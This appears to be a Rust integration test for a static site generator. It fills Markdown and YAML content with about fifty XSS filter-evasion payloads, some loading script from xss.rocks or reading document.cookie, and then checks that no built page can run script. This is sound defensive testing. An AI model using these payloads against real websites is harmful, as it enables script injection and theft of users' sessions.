//! No content, however written, runs script in either audience: a corpus
//! of filter-evasion vectors (OWASP cheat-sheet style) is placed in Markdown
//! and in YAML fields, and every output page is parsed as HTML and searched
//! for script elements, event-handler attributes and script URLs.

use crate::common;

use std::fs;
use std::path::Path;

use taizhang::content::Audience;

const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH\">",
    "<details open ontoggle=alert(1)>",
    "<style>@import 'http://xss.rocks/xss.css';</style>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](/static/x.png)",
    "[a](<javascript:alert(1)>)",
    "[x](https://example.com\" onclick=\"alert(1))",
    "autolink <javascript:alert(1)>",
    "[ref][xss]\n\n[xss]: javascript:alert(1)",
    "# 标题 {onclick=alert(1)}",
    "## 标题 {#x onmouseover=alert(1) .c}",
];

/// YAML block scalar of `text`, indented for a key at `indent` spaces.
fn block(text: &str, indent: usize) -> String {
    let pad = " ".repeat(indent + 2);
    format!(
        "|-\n{}",
        text.lines()
            .map(|l| format!("{pad}{l}"))
            .collect::<Vec<_>>()
            .join("\n")
    )
}

fn hostile_site(root: &Path) {
    taizhang::scaffold::init(root, Default::default()).expect("writes");
    // The one image the vectors name, so the build's link check passes.
    fs::create_dir_all(root.join("static")).expect("makes static/");
    fs::write(root.join("static/x.png"), b"\x89PNG").expect("writes");
    let content = root.join("content");
    let all = VECTORS.join("\n\n");
    let issue = format!(
        "number: 1\ntitle: {}\nfinding: {}\nmeasures:\n  - text: {}\ntarget: {}\ndeadline: 2025-09-30\nunits: [bangongshi]\nvillages: [dongcun]\nindicators:\n  - id: x\n    name: {}\n    baseline: {{ date: 2025-07-01, value: 1 }}\n    target: 2\nupdates:\n  - date: 2025-08-01\n    text: {}\ntasks:\n{}",
        block(VECTORS[0], 0),
        block(&all, 0),
        block(&all, 4),
        block(VECTORS[6], 0),
        block(VECTORS[23], 4),
        block(&all, 4),
        VECTORS
            .iter()
            .map(|v| format!("  - village: dongcun\n    what: {}\n    status: in_progress\n    history:\n      - date: 2025-08-01\n        status: in_progress\n        note: {}\n", block(v, 4), block(v, 8)))
            .collect::<String>()
    );
    fs::write(content.join("issues/01.yaml"), issue).expect("writes");
    fs::write(
        content.join("notes/2025-08-01-kickoff.md"),
        format!(
            "---\ntitle: {}\ndate: 2025-08-01\nvillages: [dongcun]\n---\n{all}\n\n东村村民李小梅反映。\n",
            block(VECTORS[2], 0)
        ),
    )
    .expect("writes");
    fs::write(
        content.join("glossary.yaml"),
        format!(
            "terms:\n  - term: 村务公开\n    explanation: {}\n",
            block(&all, 4)
        ),
    )
    .expect("writes");
    let site = fs::read_to_string(content.join("site.yaml")).expect("reads");
    let site = site
        .replace(
            "    name: 东村\n",
            &format!(
                "    name: {}\n",
                block("东村<script>alert(1)</script>\"'><svg onload=alert(1)>", 4)
            ),
        )
        .replace(
            "    title: 报送中期整改进展",
            &format!("    title: {}", block(VECTORS[22], 4)),
        );
    fs::write(content.join("site.yaml"), site).expect("writes");
}

fn is_script_url(value: &str) -> bool {
    let compact: String = value
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .collect::<String>()
        .to_lowercase();
    [
        "javascript:",
        "vbscript:",
        "data:text",
        "data:application",
        "data:image/svg",
    ]
    .iter()
    .any(|s| compact.starts_with(s))
}

/// Every way `html` could run script: script-capable elements, event
/// handler attributes, script URLs, meta refreshes, style urls.
fn violations(html: &str) -> Vec<String> {
    let html = scraper::Html::parse_document(html);
    let mut found = Vec::new();
    for node in html.tree.nodes() {
        let Some(element) = node.value().as_element() else {
            continue;
        };
        let name = element.name().to_lowercase();
        // The search page's own script: a file of the theme, not content.
        let theme_script = name == "script"
            && element.attr("defer").is_some()
            && element
                .attr("src")
                .is_some_and(|src| src.ends_with("static/search.js"))
            && !node.has_children();
        if [
            "script", "iframe", "object", "embed", "base", "frame", "applet",
        ]
        .contains(&name.as_str())
            && !theme_script
        {
            found.push(format!("<{name}>"));
        }
        if name == "meta" && element.attr("http-equiv").is_some() {
            found.push("meta http-equiv".into());
        }
        for (attribute, value) in element.attrs() {
            let attribute = attribute.to_lowercase();
            if attribute.starts_with("on") {
                found.push(format!("<{name} {attribute}>"));
            }
            let url_attribute = [
                "href",
                "src",
                "action",
                "formaction",
                "xlink:href",
                "background",
                "data",
                "poster",
            ];
            if url_attribute.contains(&attribute.as_str()) && is_script_url(value) {
                found.push(format!("<{name} {attribute}=\"{value}\">"));
            }
            if attribute == "style" && value.to_lowercase().contains("url(") {
                found.push(format!("<{name} style=\"{value}\">"));
            }
        }
    }
    found
}

#[test]
fn the_checker_itself_catches_what_it_should() {
    for bad in [
        "<script>x</script>",
        "<img src=x onerror=alert(1)>",
        "<a href=\" java&#x09;script:alert(1)\">x</a>",
        "<svg><a xlink:href=\"javascript:alert(1)\"></a></svg>",
        "<div style=\"background:url(javascript:x)\"></div>",
        "<meta http-equiv=\"refresh\" content=\"0\">",
    ] {
        assert!(!violations(bad).is_empty(), "missed {bad}");
    }
    assert!(violations("<p><a href=\"../list/\">ok</a></p>").is_empty());
}

#[test]
fn no_vector_survives_in_either_audience() {
    assert!(VECTORS.len() >= 40);
    let dir = tempfile::tempdir().expect("a folder");
    hostile_site(dir.path());
    let mut pages = 0;
    for audience in [Audience::Public, Audience::Internal] {
        let files = common::build_in_memory(dir.path(), audience);
        for file in files.iter().filter(|f| f.path.ends_with(".html")) {
            pages += 1;
            let text = String::from_utf8_lossy(&file.bytes);
            let found = violations(&text);
            assert!(found.is_empty(), "{audience:?} {}: {found:?}", file.path);
            let html = scraper::Html::parse_document(&text);
            // The text survives, harmlessly: as text.
            if file.path == "issues/01/index.html" {
                assert!(
                    html.root_element()
                        .text()
                        .collect::<String>()
                        .contains("alert(1)")
                );
            }
        }
    }
    assert!(pages > 20);
}
